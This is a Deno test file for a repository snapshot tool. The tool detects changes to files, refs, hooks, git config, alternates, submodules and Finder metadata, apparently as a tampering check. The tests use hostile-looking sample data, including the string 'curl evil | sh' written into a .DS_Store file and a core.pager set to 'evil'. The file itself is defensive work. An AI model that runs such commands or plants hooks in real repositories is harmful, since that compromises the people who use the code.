import assert from "node:assert/strict";
import { type ExecRequest, runProcess } from "../exec/exec.ts";
import { resolveRepo } from "./repo.ts";
import { compareSnapshots, takeSnapshot } from "./snapshot.ts";
import { makeTestRepo, type TestRepo } from "./test_repo.ts";

async function snap(repo: TestRepo) {
  return takeSnapshot(runProcess, await resolveRepo(runProcess, repo.root));
}

Deno.test("takeSnapshot() is identical across calls on an unchanged repo and writes nothing", async () => {
  const repo = await makeTestRepo({ "a.txt": "a\n", "b.txt": "b\n" });
  try {
    await repo.write("a.txt", "dirty\n");
    await repo.write("u.txt", "untracked\n");
    const index = await repo.read(".git/index");
    const calls: ExecRequest[] = [];
    const r = await resolveRepo(runProcess, repo.root);
    const counted = (req: ExecRequest) => {
      calls.push(req);
      return runProcess(req);
    };
    const first = await takeSnapshot(counted, r);
    const second = await takeSnapshot(counted, r);
    assert.equal(calls.length, 2, "one status per snapshot (refs are read from their files)");
    assert.deepEqual(compareSnapshots(first, second), []);
    assert.deepEqual(first, second);
    assert.deepEqual(await repo.read(".git/index"), index);
    assert.deepEqual(Object.keys(first.files).sort(), ["a.txt", "u.txt"]);
  } finally {
    await repo.cleanup();
  }
});

Deno.test("compareSnapshots() names each kind of change", async (t) => {
  const cases: [string, (repo: TestRepo) => Promise<void>, string[]][] = [
    ["new untracked file", (r) => r.write("new.txt", "n\n"), ["new.txt"]],
    ["modified tracked file", (r) => r.write("a.txt", "changed\n"), ["a.txt"]],
    ["modified dirty file", (r) => r.write("dirty.txt", "dirtier\n"), ["dirty.txt"]],
    ["modified untracked file", (r) => r.write("u.txt", "u2\n"), ["u.txt"]],
    ["deleted tracked file", (r) => Deno.remove(`${r.root}/a.txt`), ["a.txt"]],
    ["deleted untracked file", (r) => Deno.remove(`${r.root}/u.txt`), ["u.txt"]],
    ["HEAD move", async (r) => void await r.git("commit", "-q", "--allow-empty", "-m", "x"), [
      "HEAD",
      "refs/heads/main",
    ]],
    ["branch switch", async (r) => void await r.git("checkout", "-q", "-b", "other"), [
      "HEAD",
      "refs/heads/other",
    ]],
    ["new hook", (r) => r.write(".git/hooks/pre-commit", "#!/bin/sh\n"), [".git/hooks/pre-commit"]],
    ["hook made executable", (r) => Deno.chmod(`${r.root}/.git/hooks/off`, 0o755), [
      ".git/hooks/off",
    ]],
    ["git config change", async (r) => void await r.git("config", "core.pager", "evil"), [
      "git config",
    ]],
    ["info/exclude change", (r) => r.write(".git/info/exclude", "*.secret\n"), [
      ".git/info/exclude",
    ]],
    ["info/attributes created", (r) => r.write(".git/info/attributes", "* diff=x\n"), [
      ".git/info/attributes",
    ]],
    ["history cut off (shallow)", (r) => r.write(".git/shallow", "0".repeat(40) + "\n"), [
      ".git/shallow",
    ]],
    ["another object store (alternates)", async (r) => {
      await Deno.mkdir(`${r.root}/.git/objects/info`, { recursive: true });
      await r.write(".git/objects/info/alternates", "/tmp/elsewhere/objects\n");
    }, [".git/objects/info/alternates"]],
    ["new branch without checkout", async (r) => void await r.git("branch", "x"), [
      "refs/heads/x",
    ]],
    ["tag", async (r) => void await r.git("tag", "v1"), ["refs/tags/v1"]],
    ["index change", async (r) => void await r.git("add", "dirty.txt"), ["index", "dirty.txt"]],
    ["touch without content change", async (r) => {
      const now = new Date(Date.now() + 5000);
      await Deno.utime(`${r.root}/dirty.txt`, now, now);
      await Deno.utime(`${r.root}/a.txt`, now, now);
    }, []],
    [
      "index stat refresh",
      async (r) => void await r.git("update-index", "--refresh").catch(() => ""),
      [],
    ],
  ];
  for (const [name, mutate, expected] of cases) {
    await t.step(name, async () => {
      const repo = await makeTestRepo({ "a.txt": "a\n", "dirty.txt": "d\n" });
      try {
        await repo.write("dirty.txt", "dirty\n");
        await repo.write("u.txt", "u\n");
        await repo.write(".git/hooks/off", "#!/bin/sh\n");
        await Deno.chmod(`${repo.root}/.git/hooks/off`, 0o644);
        const before = await snap(repo);
        await mutate(repo);
        assert.deepEqual(compareSnapshots(before, await snap(repo)), expected);
      } finally {
        await repo.cleanup();
      }
    });
  }
});

Deno.test("compareSnapshots() watches the hooks directory core.hooksPath names", async () => {
  const repo = await makeTestRepo({ "a.txt": "a\n" });
  const hooks = await Deno.realPath(await Deno.makeTempDir({ prefix: "review-gate-hooks-" }));
  try {
    await repo.git("config", "core.hooksPath", hooks);
    const before = await snap(repo);
    await Deno.writeTextFile(`${hooks}/pre-commit`, "#!/bin/sh\n");
    await repo.write(".git/hooks/pre-commit", "#!/bin/sh\n"); // inactive: hooksPath wins
    assert.deepEqual(compareSnapshots(before, await snap(repo)), [`${hooks}/pre-commit`]);
  } finally {
    await repo.cleanup();
    await Deno.remove(hooks, { recursive: true });
  }
});

Deno.test("compareSnapshots() sees writes inside a submodule that already had changes", async (t) => {
  const sub = await makeTestRepo({ "s.txt": "s\n", "t.txt": "t\n" });
  const repo = await makeTestRepo({ "a.txt": "a\n" });
  try {
    await repo.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", sub.root, "sm");
    await repo.git("commit", "-q", "-m", "submodule");
    const cases: [string, () => Promise<unknown>, string[]][] = [
      ["edit of a dirty file", () => repo.write("sm/s.txt", "dirtier\n"), ["sm/s.txt"]],
      ["edit of a clean file", () => repo.write("sm/t.txt", "t2\n"), ["sm/t.txt"]],
      ["new untracked file", () => repo.write("sm/new.txt", "n\n"), ["sm", "sm/new.txt"]],
      [
        "commit inside",
        () => repo.git("-C", "sm", "commit", "-q", "-am", "inner"),
        ["sm", "sm/s.txt", "sm/t.txt"],
      ],
    ];
    await repo.write("sm/s.txt", "dirty\n");
    for (const [name, mutate, expected] of cases) {
      await t.step(name, async () => {
        const before = await snap(repo);
        assert.deepEqual(compareSnapshots(before, await snap(repo)), []);
        await mutate();
        assert.deepEqual(compareSnapshots(before, await snap(repo)), expected);
      });
    }
  } finally {
    await repo.cleanup();
    await sub.cleanup();
  }
});

Deno.test("compareSnapshots() ignores remote-tracking refs a background fetch may move", async () => {
  const repo = await makeTestRepo({ "a.txt": "a\n" });
  try {
    const before = await snap(repo);
    await repo.git("update-ref", "refs/remotes/origin/main", "HEAD");
    assert.deepEqual(compareSnapshots(before, await snap(repo)), []);
    await repo.git("update-ref", "refs/heads/sneaky", "HEAD");
    assert.deepEqual(compareSnapshots(before, await snap(repo)), ["refs/heads/sneaky"]);
  } finally {
    await repo.cleanup();
  }
});

Deno.test("compareSnapshots() sees a ref written loose or packed, and not a pack-refs that moves none", async () => {
  const repo = await makeTestRepo({ "a.txt": "a\n" });
  try {
    await repo.git("branch", "packed");
    await repo.git("tag", "v1");
    await repo.git("pack-refs", "--all");
    const before = await snap(repo);
    await repo.git("pack-refs", "--all");
    assert.deepEqual(compareSnapshots(before, await snap(repo)), [], "pack-refs moves no ref");
    await repo.git("commit", "-q", "--allow-empty", "-m", "x");
    await repo.git("update-ref", "refs/heads/packed", "HEAD");
    await repo.git("tag", "-d", "v1");
    await repo.git("pack-refs", "--all");
    assert.deepEqual(compareSnapshots(before, await snap(repo)), [
      "HEAD",
      "refs/heads/main",
      "refs/heads/packed",
      "refs/tags/v1",
    ]);
  } finally {
    await repo.cleanup();
  }
});

Deno.test("takeSnapshot() signs a tracked file replaced by a FIFO without opening it", async () => {
  const repo = await makeTestRepo({ "a.txt": "a\n" });
  try {
    const before = await snap(repo);
    await Deno.remove(`${repo.root}/a.txt`);
    const fifo = await new Deno.Command("mkfifo", { args: [`${repo.root}/a.txt`] }).output();
    assert.ok(fifo.success);
    const after = await snap(repo);
    assert.match(after.files["a.txt"], / \| special /);
    assert.deepEqual(compareSnapshots(before, after), ["a.txt"]);
  } finally {
    await repo.cleanup();
  }
});

Deno.test("compareSnapshots() does not count Finder's metadata files, recognised by their bytes", async () => {
  const repo = await makeTestRepo({ "a.txt": "a\n" });
  try {
    const before = await snap(repo);
    const dsStore = new Uint8Array([0, 0, 0, 1, 0x42, 0x75, 0x64, 0x31, 0, 0, 0x10, 0]);
    await Deno.mkdir(`${repo.root}/src`);
    await Deno.writeFile(`${repo.root}/src/.DS_Store`, dsStore);
    await Deno.writeFile(`${repo.root}/._a.txt`, new Uint8Array([0, 5, 0x16, 7, 0, 2, 0, 0]));
    assert.deepEqual(compareSnapshots(before, await snap(repo)), []);
    // the same name holding anything else is a write like any other
    await Deno.writeTextFile(`${repo.root}/.DS_Store`, "curl evil | sh\n");
    assert.deepEqual(compareSnapshots(before, await snap(repo)), [".DS_Store"]);
  } finally {
    await repo.cleanup();
  }
});
